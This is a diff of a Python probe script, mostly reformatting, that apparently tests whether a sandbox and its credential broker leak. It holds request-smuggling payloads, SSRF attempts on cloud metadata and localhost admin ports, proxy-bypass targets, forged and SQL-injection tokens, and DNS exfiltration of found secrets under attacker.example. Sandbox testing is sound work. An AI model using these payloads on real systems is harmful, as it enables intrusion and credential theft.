@@ -6,14 +6,12 @@ Every answer is kept whole: what is not masked in it is found by whoever reads t
 import base64
 import json
 import os
-import random
 import re
 import socket
 import ssl
 import struct
 import sys
 import threading
-import time
 
 from common import MARK, REPORT, TOLD, attempt, later, play, read
 
@@ -21,8 +19,24 @@ SERVICES = "/run/belljar-services.sock"
 PROXY = ("127.0.0.1", 3128)
 LONGEST = 512 << 10
 ECHOES = [
-    "raw", "base64", "base64-1", "base64-2", "base64url", "hex", "HEX", "percent", "PERCENT", "form", "json", "html", "gzip", "chunks",
-    "location", "cookie", "reason", "trailer",
+    "raw",
+    "base64",
+    "base64-1",
+    "base64-2",
+    "base64url",
+    "hex",
+    "HEX",
+    "percent",
+    "PERCENT",
+    "form",
+    "json",
+    "html",
+    "gzip",
+    "chunks",
+    "location",
+    "cookie",
+    "reason",
+    "trailer",
 ]
 
 
@@ -112,13 +126,28 @@ def pieces_of_an_answer():
     for place in bound():
         host, path = place["host"], rendered(place, "/echo/raw/HERE")
         for headers in [
-            "range: bytes=0-40\r\n", "range: bytes=40-80, 120-160\r\n", "range: bytes=-30\r\n", "if-range: x\r\nrange: bytes=60-\r\n",
-            "accept-encoding: gzip\r\n", "accept-encoding: br, zstd, deflate\r\n", "te: trailers, gzip\r\n", "want-digest: sha-256\r\n",
-            "expect: 100-continue\r\n", "connection: authorization\r\n", "connection: close, x-api-key, authorization\r\n",
-            "authorization: Bearer mine\r\nAuthorization: Basic bWluZQ==\r\nAUTHORIZATION: x\r\n", "x-api-key: mine\r\nX-Api-Key: mine\r\n",
-            "x-http-method-override: TRACE\r\n", "x-forwarded-host: free.test\r\n", "forwarded: host=free.test\r\n", "max-forwards: 0\r\n",
-            "upgrade: h2c\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAMAAABk\r\n", "cookie: a=credential-brokered\r\n",
-            "user-agent: credential-brokered\r\n", "referer: https://free.test/credential-brokered\r\n", "x: credential-brokered\r\n",
+            "range: bytes=0-40\r\n",
+            "range: bytes=40-80, 120-160\r\n",
+            "range: bytes=-30\r\n",
+            "if-range: x\r\nrange: bytes=60-\r\n",
+            "accept-encoding: gzip\r\n",
+            "accept-encoding: br, zstd, deflate\r\n",
+            "te: trailers, gzip\r\n",
+            "want-digest: sha-256\r\n",
+            "expect: 100-continue\r\n",
+            "connection: authorization\r\n",
+            "connection: close, x-api-key, authorization\r\n",
+            "authorization: Bearer mine\r\nAuthorization: Basic bWluZQ==\r\nAUTHORIZATION: x\r\n",
+            "x-api-key: mine\r\nX-Api-Key: mine\r\n",
+            "x-http-method-override: TRACE\r\n",
+            "x-forwarded-host: free.test\r\n",
+            "forwarded: host=free.test\r\n",
+            "max-forwards: 0\r\n",
+            "upgrade: h2c\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAMAAABk\r\n",
+            "cookie: a=credential-brokered\r\n",
+            "user-agent: credential-brokered\r\n",
+            "referer: https://free.test/credential-brokered\r\n",
+            "x: credential-brokered\r\n",
         ]:
             for method in ["GET", "POST"]:
                 later(f"{method} {host} {headers!r}", get, host, path, headers, method)
@@ -132,7 +161,15 @@ def answers_that_are_none():
         host = place["host"]
         for status in [100, 103, 204, 301, 302, 304, 307, 400, 401, 407, 418, 421, 429, 500, 502, 511]:
             later(f"{status} {host}", get, host, rendered(place, f"/status/{status}/HERE"))
-        for path in ["/redirect/free", "/redirect/plain", "/redirect/unbound", "/cut", "/tokens/oauth/token", "/oauth/token", "/login/oauth/access_token"]:
+        for path in [
+            "/redirect/free",
+            "/redirect/plain",
+            "/redirect/unbound",
+            "/cut",
+            "/tokens/oauth/token",
+            "/oauth/token",
+            "/login/oauth/access_token",
+        ]:
             later(f"{path} {host}", get, host, path)
         later(f"plain {host}", get, host, "/echo/raw/x", "", "GET", b"", 80)
 
@@ -156,11 +193,15 @@ def smuggled(host, second):
     yield line + b"content-length: 3, 3\r\n\r\nabc" + second
     yield line + b"transfer-encoding : chunked\r\n\r\n0\r\n\r\n" + second
     yield line + b"x: y\r\n folded: authorization\r\n\r\n" + second
-    yield line + b"transfer-encoding: chunked\r\n\r\n1;a=\"\r\n\r\n" + second + b"\"\r\na\r\n0\r\n\r\n"
+    yield line + b'transfer-encoding: chunked\r\n\r\n1;a="\r\n\r\n' + second + b'"\r\na\r\n0\r\n\r\n'
     yield line + b"transfer-encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF1\r\na\r\n0\r\n\r\n" + second
     yield line + b"\nx: y\n\n" + second
     yield line + b"content-length: 0\r\n\r\n" + second + second
-    yield line + b"trailer: authorization\r\ntransfer-encoding: chunked\r\n\r\n0\r\nauthorization: Bearer mine\r\n\r\n" + second
+    yield (
+        line
+        + b"trailer: authorization\r\ntransfer-encoding: chunked\r\n\r\n0\r\nauthorization: Bearer mine\r\n\r\n"
+        + second
+    )
     yield b"\r\n\r\n" + line + b"content-length: 0\r\n\r\n" + second
     yield line.replace(b"HTTP/1.1", b"HTTP/1.0") + b"connection: keep-alive\r\ncontent-length: 0\r\n\r\n" + second
     yield line.replace(b"HTTP/1.1", b"HTTP/0.9") + second
@@ -179,9 +220,18 @@ def names_that_differ():
     for place in bound():
         host = place["host"]
         for to, sni, authority in [
-            (free, host, host), (host, free, host), (host, host, free), (free, free, host), (host, unbound, host), (unbound, host, host),
-            (host, host, host.upper() + "."), (host, host, host + ":443"), (host, host, f"{host}\0.{free}"), (host, f"x.{host}", host),
-            (free, free, host + "."), (TOLD["plain"], TOLD["plain"], host),
+            (free, host, host),
+            (host, free, host),
+            (host, host, free),
+            (free, free, host),
+            (host, unbound, host),
+            (unbound, host, host),
+            (host, host, host.upper() + "."),
+            (host, host, host + ":443"),
+            (host, host, f"{host}\0.{free}"),
+            (host, f"x.{host}", host),
+            (free, free, host + "."),
+            (TOLD["plain"], TOLD["plain"], host),
         ]:
             later(f"names {to} {sni} {authority}", get, to, "/echo/raw/x", "", "GET", b"", 443, sni, authority)
             later(f"plain names {to} {authority}", get, to, "/echo/raw/x", "", "GET", b"", 80, None, authority)
@@ -199,7 +249,15 @@ def tokens_of_their_own():
     """A host that hands out tokens for the key that it was given."""
     for place in bound():
         for path in ["/oauth/token", "/oauth2/v1/token", "/login/oauth/access_token", "/sts/token"]:
-            later(f"token {path}", get, place["host"], path, "content-type: application/x-www-form-urlencoded\r\n", "POST", b"grant_type=client_credentials")
+            later(
+                f"token {path}",
+                get,
+                place["host"],
+                path,
+                "content-type: application/x-www-form-urlencoded\r\n",
+                "POST",
+                b"grant_type=client_credentials",
+            )
 
 
 # --- The proxy -------------------------------------------------------------------------------------------------------
@@ -210,18 +268,55 @@ def the_proxy():
     first = bound()[0]["host"]
     requests = [
         f"GET http://{host}/echo/raw/x HTTP/1.1\r\nhost: {named}\r\n{more}connection: close\r\n\r\n"
-        for host, named in [(first, first), (first, free), (free, first), (unbound, first), ("127.0.0.1", first), ("127.0.0.1:%d" % TOLD["admin"], "x"), ("169.254.169.254", first), ("localhost:%d" % TOLD["admin"], "x"), ("[::1]:%d" % TOLD["admin"], "x")]
+        for host, named in [
+            (first, first),
+            (first, free),
+            (free, first),
+            (unbound, first),
+            ("127.0.0.1", first),
+            ("127.0.0.1:%d" % TOLD["admin"], "x"),
+            ("169.254.169.254", first),
+            ("localhost:%d" % TOLD["admin"], "x"),
+            ("[::1]:%d" % TOLD["admin"], "x"),
+        ]
         for more in ["", "proxy-authorization: Basic bWluZTptaW5l\r\n", "authorization: Bearer credential-brokered\r\n"]
     ]
     for target in [
-        f"{first}:443", f"{free}:443", f"{unbound}:443", f"127.0.0.1:{TOLD['admin']}", f"localhost:{TOLD['admin']}", "169.254.169.254:80", "0x7f000001:80", "2130706433:80",
-        f"0:{TOLD['admin']}", f"127.1:{TOLD['admin']}", f"[::1]:{TOLD['admin']}", f"[::ffff:127.0.0.1]:{TOLD['admin']}", "10.0.0.1:22", f"{first}:22", f"{first}\0.{free}:443",
-        f"{first}:443@{free}:443", "metadata.google.internal:80", "host.docker.internal:80", f"{TOLD['address']}:443", f"{TOLD['address']}:53",
+        f"{first}:443",
+        f"{free}:443",
+        f"{unbound}:443",
+        f"127.0.0.1:{TOLD['admin']}",
+        f"localhost:{TOLD['admin']}",
+        "169.254.169.254:80",
+        "0x7f000001:80",
+        "2130706433:80",
+        f"0:{TOLD['admin']}",
+        f"127.1:{TOLD['admin']}",
+        f"[::1]:{TOLD['admin']}",
+        f"[::ffff:127.0.0.1]:{TOLD['admin']}",
+        "10.0.0.1:22",
+        f"{first}:22",
+        f"{first}\0.{free}:443",
+        f"{first}:443@{free}:443",
+        "metadata.google.internal:80",
+        "host.docker.internal:80",
+        f"{TOLD['address']}:443",
+        f"{TOLD['address']}:53",
     ]:
         requests.append(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\nGET / HTTP/1.1\r\nhost: x\r\n\r\n")
     for number, request in enumerate(requests):
         later(f"proxy {number}", to_proxy, request.encode())
-    for host in [first, f"{first}\0.{free}", f"{free}\r\nx", unbound, "127.0.0.1", "127.1", "::1", "169.254.169.254", TOLD["address"]]:
+    for host in [
+        first,
+        f"{first}\0.{free}",
+        f"{free}\r\nx",
+        unbound,
+        "127.0.0.1",
+        "127.1",
+        "::1",
+        "169.254.169.254",
+        TOLD["address"],
+    ]:
         for port in [443, 80, TOLD["admin"], 22]:
             later(f"socks {host!r}:{port}", socks, host.encode(), port)
     later("socks 4", to_proxy, b"\x04\x01" + struct.pack("!H", TOLD["admin"]) + bytes([127, 0, 0, 1]) + b"\0")
@@ -269,43 +364,126 @@ def services():
     """Every service says what it was asked, in every spelling; refuses, redirects and breaks off."""
     for service in TOLD["services"]:
         for how in ECHOES:
-            later(f"service {service} {how}", ask, {"service": service, "method": "say", "args": {"how": how, "text": "x"}})
+            later(
+                f"service {service} {how}",
+                ask,
+                {"service": service, "method": "say", "args": {"how": how, "text": "x"}},
+            )
         for status in [301, 302, 400, 401, 403, 404, 422, 429, 500, 503]:
-            later(f"service {service} {status}", ask, {"service": service, "method": "fail", "args": {"status": str(status)}})
-        for text in ["../../x", "x\r\nx: y", "{token}", "${TOKEN}", "credential-brokered", "%0d%0ax: y", "@evil.test/", "x" * 5_000, "\0", "{{token}}"]:
-            later(f"service {service} {text[:20]!r}", ask, {"service": service, "method": "say", "args": {"how": text, "text": text}})
+            later(
+                f"service {service} {status}",
+                ask,
+                {"service": service, "method": "fail", "args": {"status": str(status)}},
+            )
+        for text in [
+            "../../x",
+            "x\r\nx: y",
+            "{token}",
+            "${TOKEN}",
+            "credential-brokered",
+            "%0d%0ax: y",
+            "@evil.test/",
+            "x" * 5_000,
+            "\0",
+            "{{token}}",
+        ]:
+            later(
+                f"service {service} {text[:20]!r}",
+                ask,
+                {"service": service, "method": "say", "args": {"how": text, "text": text}},
+            )
 
 
 def services_by_other_ways():
     """Names that every object has, forged tokens, other people's sessions, other routes, other methods, other framing."""
     good = {"service": "mirror", "method": "say", "args": {"how": "raw", "text": "x"}}
-    for name in ["constructor", "__proto__", "toString", "hasOwnProperty", "hidden", "", ".", "say.say", "*", "mirror", "valueOf", "then"]:
+    for name in [
+        "constructor",
+        "__proto__",
+        "toString",
+        "hasOwnProperty",
+        "hidden",
+        "",
+        ".",
+        "say.say",
+        "*",
+        "mirror",
+        "valueOf",
+        "then",
+    ]:
         later(f"method {name!r}", ask, {**good, "method": name})
         later(f"service {name!r}", ask, {**good, "service": name})
     for headers in [
-        "authorization: Bearer mine\r\n", "authorization: Bearer ' OR '1'='1\r\n", "authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n",
-        "x-belljar-token: mine\r\n", "x-forwarded-for: 127.0.0.1\r\n", "host: admin\r\n", "cookie: token=x\r\n", "x-session: " + TOLD["sessions"][0] + "\r\n",
-        "transfer-encoding: chunked\r\n", "expect: 100-continue\r\n", "upgrade: websocket\r\nconnection: upgrade\r\n", "te: trailers\r\n",
+        "authorization: Bearer mine\r\n",
+        "authorization: Bearer ' OR '1'='1\r\n",
+        "authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n",
+        "x-belljar-token: mine\r\n",
+        "x-forwarded-for: 127.0.0.1\r\n",
+        "host: admin\r\n",
+        "cookie: token=x\r\n",
+        "x-session: " + TOLD["sessions"][0] + "\r\n",
+        "transfer-encoding: chunked\r\n",
+        "expect: 100-continue\r\n",
+        "upgrade: websocket\r\nconnection: upgrade\r\n",
+        "te: trailers\r\n",
     ]:
         later(f"services {headers!r}", ask, good, "/v1/services", "POST", headers)
     routes = [
-        "/", "/v1", "/v1/turns", "/v1/control", "/v1/names", "/v1/files/1", "/v1/files/../control", "/api/proxy", "/api/sessions", "/v1/tokens", "/v1/sessions", "/metrics",
-        "/v1/services/mirror", "/v1/services/..%2fturns", "/v1/services/__proto__", "/v1/services?token=x", "//v1/turns", "/V1/TURNS", "/v1/services/../turns", "/v1/models", "/v1/messages", "/v1/secrets",
+        "/",
+        "/v1",
+        "/v1/turns",
+        "/v1/control",
+        "/v1/names",
+        "/v1/files/1",
+        "/v1/files/../control",
+        "/api/proxy",
+        "/api/sessions",
+        "/v1/tokens",
+        "/v1/sessions",
+        "/metrics",
+        "/v1/services/mirror",
+        "/v1/services/..%2fturns",
+        "/v1/services/__proto__",
+        "/v1/services?token=x",
+        "//v1/turns",
+        "/V1/TURNS",
+        "/v1/services/../turns",
+        "/v1/models",
+        "/v1/messages",
+        "/v1/secrets",
     ]
     for route in routes:
         for method in ["GET", "POST", "PUT", "DELETE", "TRACE", "OPTIONS", "CONNECT", "HEAD", "PATCH"]:
             later(f"{method} {route}", ask, good, route, method)
     for session in TOLD["sessions"]:
-        for more in [{"session": session}, {"token": session}, {"call": session}, {"idempotency_key": session}, {"__proto__": {"service": "hidden"}}]:
+        for more in [
+            {"session": session},
+            {"token": session},
+            {"call": session},
+            {"idempotency_key": session},
+            {"__proto__": {"service": "hidden"}},
+        ]:
             later(f"services {more}", ask, {**good, **more})
     body = json.dumps(good).encode()
-    for number, request in enumerate([
-        b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nPOST /v1/turns HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}",
-        b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: " + str(len(body)).encode() + b"\r\n\r\n" + body + b"POST /v1/control HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}",
-        b"POST /v1/services\r\nx: y HTTP/1.1\r\nhost: x\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x16\x03\x01\0\0", b"\0" * 200, b"GET " + b"/" * 70_000,
-        b"CONNECT " + TOLD["free"].encode() + b":443 HTTP/1.1\r\nhost: x\r\n\r\n", b'{"service":"mirror"}',
-        b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: 60\r\n\r\n" + b'{"service":"mirror","service":"hidden","method":"say","args":{}}',
-    ]):
+    for number, request in enumerate(
+        [
+            b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nPOST /v1/turns HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}",
+            b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: "
+            + str(len(body)).encode()
+            + b"\r\n\r\n"
+            + body
+            + b"POST /v1/control HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}",
+            b"POST /v1/services\r\nx: y HTTP/1.1\r\nhost: x\r\n\r\n",
+            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+            b"\x16\x03\x01\0\0",
+            b"\0" * 200,
+            b"GET " + b"/" * 70_000,
+            b"CONNECT " + TOLD["free"].encode() + b":443 HTTP/1.1\r\nhost: x\r\n\r\n",
+            b'{"service":"mirror"}',
+            b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: 60\r\n\r\n"
+            + b'{"service":"mirror","service":"hidden","method":"say","args":{}}',
+        ]
+    ):
         later(f"raw services {number}", raw_service, request, 3)
 
 
@@ -343,7 +521,12 @@ def spoils():
 def names():
     """What was found, in names: under hosts that exist and hosts that do not, in every kind of question, to every server."""
     for part in spoils():
-        for spelled in [part.decode(), part.hex(), base64.b32encode(part).decode().rstrip("=").lower(), part[::-1].decode()]:
+        for spelled in [
+            part.decode(),
+            part.hex(),
+            base64.b32encode(part).decode().rstrip("=").lower(),
+            part[::-1].decode(),
+        ]:
             spelled = ".".join(spelled[at : at + 60] for at in range(0, len(spelled), 60))
             for beneath in [TOLD["unbound"], TOLD["wild"], TOLD["bound"][0]["host"], "attacker.example"]:
                 name = f"{spelled}.{beneath}"
@@ -362,14 +545,31 @@ def names():
 
 def addresses():
     """Where machines keep what sandboxes must not see."""
-    for host in ["169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "10.0.0.1", "172.17.0.1", "192.168.0.1", "198.18.0.1", TOLD["address"], TOLD["resolver"], "127.0.0.1", "::1", "0.0.0.0", "127.0.0.2"]:
+    for host in [
+        "169.254.169.254",
+        "169.254.170.2",
+        "100.100.100.200",
+        "fd00:ec2::254",
+        "10.0.0.1",
+        "172.17.0.1",
+        "192.168.0.1",
+        "198.18.0.1",
+        TOLD["address"],
+        TOLD["resolver"],
+        "127.0.0.1",
+        "::1",
+        "0.0.0.0",
+        "127.0.0.2",
+    ]:
         for port in [22, 53, 80, 443, 2375, 3128, 3129, 5432, 6443, 8080, TOLD["admin"], TOLD["model"]]:
             later(f"address {host}:{port}", lambda host=host, port=port: say_plainly(host, port))
 
 
 def say_plainly(host, port):
     with opened(host, port, 2) as stream:
-        stream.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nhost: metadata.google.internal\r\nmetadata-flavor: Google\r\nconnection: close\r\n\r\n")
+        stream.sendall(
+            b"GET /latest/meta-data/ HTTP/1.1\r\nhost: metadata.google.internal\r\nmetadata-flavor: Google\r\nconnection: close\r\n\r\n"
+        )
         stream.settimeout(2)
         return everything(stream)
 
@@ -389,14 +589,53 @@ def a_request(dice):
     place = dice.choice(bound())
     host = place["host"]
     others = [host, host, host, TOLD["free"], TOLD["plain"], TOLD["unbound"], host.upper(), host + "."]
-    path = rendered(place, f"/{dice.choice(['echo', 'echo', 'echo', 'status'])}/{dice.choice(ECHOES + ['302', '500'])}/HERE")
+    path = rendered(
+        place, f"/{dice.choice(['echo', 'echo', 'echo', 'status'])}/{dice.choice(ECHOES + ['302', '500'])}/HERE"
+    )
     lines = [
-        dice.choice(["x: y", "range: bytes=%d-%d" % (dice.randrange(300), dice.randrange(300, 600)), "accept-encoding: gzip", "connection: keep-alive", "authorization: credential-brokered", "authorization: Bearer credential-brokered", "x-api-key: credential-brokered", "te: trailers", "content-type: application/json", "transfer-encoding: chunked", "content-length: 2", "host: " + dice.choice(others), "expect: 100-continue", " folded", "x:" + "y" * dice.randrange(9_000), "upgrade: websocket", "connection: upgrade"])
+        dice.choice(
+            [
+                "x: y",
+                "range: bytes=%d-%d" % (dice.randrange(300), dice.randrange(300, 600)),
+                "accept-encoding: gzip",
+                "connection: keep-alive",
+                "authorization: credential-brokered",
+                "authorization: Bearer credential-brokered",
+                "x-api-key: credential-brokered",
+                "te: trailers",
+                "content-type: application/json",
+                "transfer-encoding: chunked",
+                "content-length: 2",
+                "host: " + dice.choice(others),
+                "expect: 100-continue",
+                " folded",
+                "x:" + "y" * dice.randrange(9_000),
+                "upgrade: websocket",
+                "connection: upgrade",
+            ]
+        )
         for _ in range(dice.randrange(6))
     ]
     end = dice.choice(["\r\n"] * 8 + ["\n", "\r"])
-    request = end.join([f"{dice.choice(['GET', 'POST', 'PUT', 'TRACE', 'HEAD'])} {path} HTTP/1.{dice.choice('1110')}", "host: " + dice.choice(others), *lines, "", ""]).encode()
-    body = dice.choice([b"", b"{}", b"key=credential-brokered", b'{"key":"credential-brokered"}', b"2\r\n{}\r\n0\r\n\r\n", os.urandom(200)])
+    request = end.join(
+        [
+            f"{dice.choice(['GET', 'POST', 'PUT', 'TRACE', 'HEAD'])} {path} HTTP/1.{dice.choice('1110')}",
+            "host: " + dice.choice(others),
+            *lines,
+            "",
+            "",
+        ]
+    ).encode()
+    body = dice.choice(
+        [
+            b"",
+            b"{}",
+            b"key=credential-brokered",
+            b'{"key":"credential-brokered"}',
+            b"2\r\n{}\r\n0\r\n\r\n",
+            os.urandom(200),
+        ]
+    )
     sent = request + body
     with opened(dice.choice([host] * 6 + others), 443) as stream:
         stream = secured(stream, dice.choice([host] * 6 + others))
@@ -410,10 +649,15 @@ def a_request(dice):
 
 def a_call(dice):
     service = dice.choice(TOLD["services"] + ["crm", "__proto__"])
-    args = {"how": dice.choice(ECHOES), "text": dice.choice(["x", "credential-brokered", "é" * dice.randrange(400), "\u2028", "../" * 9])}
+    args = {
+        "how": dice.choice(ECHOES),
+        "text": dice.choice(["x", "credential-brokered", "é" * dice.randrange(400), "\u2028", "../" * 9]),
+    }
     value = {"service": service, "method": dice.choice(["say", "say", "fail", "hidden", "constructor"]), "args": args}
     if dice.random() < 0.3:
-        value[dice.choice(["token", "session", "call", "idempotency_key", "__proto__"])] = dice.choice(["x", TOLD["sessions"][0], None, 1, {}])
+        value[dice.choice(["token", "session", "call", "idempotency_key", "__proto__"])] = dice.choice(
+            ["x", TOLD["sessions"][0], None, 1, {}]
+        )
     body = json.dumps(value).encode()
     if dice.random() < 0.2:
         at = dice.randrange(len(body))
@@ -434,7 +678,8 @@ def many_at_once(dice):
     """Caps are used up; what is refused then, and what comes after it, is kept like all else."""
     place = dice.choice(bound())
     threads = [
-        threading.Thread(target=attempt, args=("crowd", get, place["host"], rendered(place, "/echo/raw/HERE"))) for _ in range(dice.randrange(5, 40))
+        threading.Thread(target=attempt, args=("crowd", get, place["host"], rendered(place, "/echo/raw/HERE")))
+        for _ in range(dice.randrange(5, 40))
     ]
     for thread in threads:
         thread.start()
@@ -445,7 +690,9 @@ def many_at_once(dice):
 
 def through_the_proxy(dice):
     host = dice.choice([place["host"] for place in bound()] + [TOLD["free"], TOLD["unbound"]])
-    target = dice.choice([f"http://{host}/echo/raw/x", f"https://{host}/echo/raw/x", f"{host}:443", "*", f"//{host}/", "/echo/raw/x"])
+    target = dice.choice(
+        [f"http://{host}/echo/raw/x", f"https://{host}/echo/raw/x", f"{host}:443", "*", f"//{host}/", "/echo/raw/x"]
+    )
     line = f"{dice.choice(['GET', 'CONNECT', 'POST'])} {target} HTTP/1.1\r\nhost: {dice.choice([host, TOLD['free'], 'localhost'])}\r\nconnection: close\r\n\r\n"
     return to_proxy(line.encode())
 
@@ -453,8 +700,19 @@ def through_the_proxy(dice):
 if __name__ == "__main__":
     play(
         [
-            echoes, pieces_of_an_answer, answers_that_are_none, requests_that_are_two, names_that_differ, web_sockets, tokens_of_their_own,
-            the_proxy, services, services_by_other_ways, addresses, names, what_was_found_is_carried_out,
+            echoes,
+            pieces_of_an_answer,
+            answers_that_are_none,
+            requests_that_are_two,
+            names_that_differ,
+            web_sockets,
+            tokens_of_their_own,
+            the_proxy,
+            services,
+            services_by_other_ways,
+            addresses,
+            names,
+            what_was_found_is_carried_out,
         ],
         [a_request, a_request, a_call, a_name, many_at_once, through_the_proxy],
     )
